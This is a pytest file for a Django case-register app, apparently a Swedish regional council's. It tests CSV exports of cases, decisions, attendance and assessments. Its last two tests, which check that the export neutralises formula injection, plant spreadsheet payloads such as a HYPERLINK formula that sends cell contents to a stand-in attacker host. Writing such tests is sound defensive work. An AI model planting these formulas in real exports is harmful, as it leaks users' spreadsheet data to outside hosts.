"""CSV exports: ärenden, decisions, attendance and assessments, with the filters of
their pages and the permissions of their pages."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.utils import timezone

from councils import services
from councils.models import Attendance, Paragraph, Protocol
from followups import services as followup_services
from tests.conftest import client_for, csv_text
from tests.factories import make_case

pytestmark = pytest.mark.django_db


def _rows(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text(response)), delimiter=";"))


def test_the_diarium_list_downloads_with_its_filters(world: dict[str, Any]) -> None:
    make_case(title="Infrastruktur i länet")
    client = client_for(None)
    page = client.get("/diarium/", {"q": "infrastruktur"}).content.decode()
    assert "/diarium/export.csv?q=infrastruktur" in page
    rows = _rows(client.get("/diarium/export.csv", {"q": "infrastruktur"}))
    assert rows[0] == ["Diarienummer", "Rubrik", "Behandlas i", "Registrerat", "Status"]
    assert [row[1] for row in rows[1:]] == ["Infrastruktur i länet"]
    everything = _rows(client.get("/diarium/export.csv"))
    titles = {row[1] for row in everything[1:]}
    assert "Samverkansfråga" in titles  # the public title, never the internal one
    assert "Intern titel om enskild" not in titles
    member = _rows(client_for(world["member_a"]).get("/diarium/export.csv"))
    assert "Intern titel om enskild" in {row[1] for row in member[1:]}


def _decided(world: dict[str, Any]) -> Paragraph:
    body = world["body_a"]
    (meeting,) = services.meeting_plan(actor=None, body=body, starts=[timezone.now()])
    services.agenda_add_case(actor=None, meeting=meeting, case=world["case"])
    services.protocol_start(actor=None, meeting=meeting)
    (paragraph,) = services.paragraphs_create_for_agenda(actor=None, meeting=meeting)
    services.paragraph_update(actor=None, paragraph=paragraph, decision="Rådet rekommenderar.")
    return paragraph


def test_decisions_and_attendance_appear_once_justerade(world: dict[str, Any]) -> None:
    paragraph = _decided(world)
    client = client_for(None)
    assert len(_rows(client.get("/beslut/export.csv"))) == 1  # the header: not yet justerat
    assert len(_rows(client.get("/narvaro/export.csv"))) == 1
    secretariat = client_for(world["secretariat"])
    assert len(_rows(secretariat.get("/beslut/export.csv"))) == 2

    Paragraph.objects.filter(pk=paragraph.pk).update(approved_at=timezone.now())
    Protocol.objects.filter(meeting=paragraph.meeting).update(status=Protocol.Status.APPROVED)
    decisions = _rows(client.get("/beslut/export.csv", {"body": world["body_a"].pk}))
    assert decisions[1][2] == str(paragraph.number)
    assert decisions[1][6] == "Rådet rekommenderar."
    assert len(_rows(client.get("/beslut/export.csv", {"body": world["body_b"].pk}))) == 1
    attendance = _rows(client.get("/narvaro/export.csv", {"body": world["body_a"].pk}))
    count = Attendance.objects.filter(meeting=paragraph.meeting).count()
    assert len(attendance) == 1 + count
    page = client.get("/beslut/").content.decode()
    assert f"#p-{paragraph.pk}" in page


def test_assessments_download_as_each_role_may_see_them(pact: dict[str, Any]) -> None:
    agreement = pact["agreement"]
    for user, score in ((pact["krokom"], 4), (pact["berg"], 2)):
        followup_services.assessments_save(
            actor=user,
            agreement=agreement,
            year=2019,
            scores=dict.fromkeys(agreement.areas.all(), (score, "Kommentar")),
        )
    url = f"/overenskommelser/{agreement.pk}/bedomning/2019/export.csv"
    region = _rows(client_for(pact["secretariat"]).get(url))
    kommuner = {kommun.name for kommun in pact["kommuner"].values()}
    assert {row[0] for row in region[1:]} == kommuner | {"Genomsnitt"}  # side by side
    assert {row[2] for row in region[1:] if row[0] == "Krokoms kommun"} == {"4"}
    assert {row[2] for row in region[1:] if row[0] == "Genomsnitt"} == {"3.0"}
    krokom = _rows(client_for(pact["krokom"]).get(url))
    assert {row[0] for row in krokom[1:]} == {"Krokoms kommun", "Genomsnitt"}
    assert client_for(None).get(url).status_code == 404  # nothing published yet


def test_long_lists_page_with_their_filters(world: dict[str, Any]) -> None:
    for index in range(30):
        make_case(title=f"Bredband etapp {index}")
    page = client_for(None).get("/diarium/", {"q": "bredband"}).content.decode()
    assert "Sida 1 av 2" in page
    assert "?q=bredband&amp;page=2" in page
    second = client_for(None).get("/diarium/", {"q": "bredband", "page": 2}).content.decode()
    assert "Sida 2 av 2" in second


# --- 4. CSV cells (the probe of issue 13) --------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_run_as_formulas_are_neutralised(
    world: dict[str, Any], start: str
) -> None:
    title = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klicka")'
    make_case(body=world["body_a"], title=title)
    text = csv_text(client_for(None).get("/diarium/export.csv"))
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [row[1] for row in rows[1:] if "HYPERLINK" in row[1]]
    assert cells == ["'" + title]


def test_a_kommuns_assessment_comment_reaches_the_regions_csv_as_text(
    pact: dict[str, Any],
) -> None:
    from followups import services as followup_services

    agreement, year = pact["agreement"], 2019
    area = agreement.areas.first()
    followup_services.assessments_save(
        actor=pact["krokom"],
        agreement=agreement,
        year=year,
        scores={area: (3, '=HYPERLINK("https://evil.example")')},
    )
    text = csv_text(
        client_for(pact["secretariat"]).get(
            f"/overenskommelser/{agreement.pk}/bedomning/{year}/export.csv"
        )
    )
    assert "'=HYPERLINK" in text
    assert ";=HYPERLINK" not in text
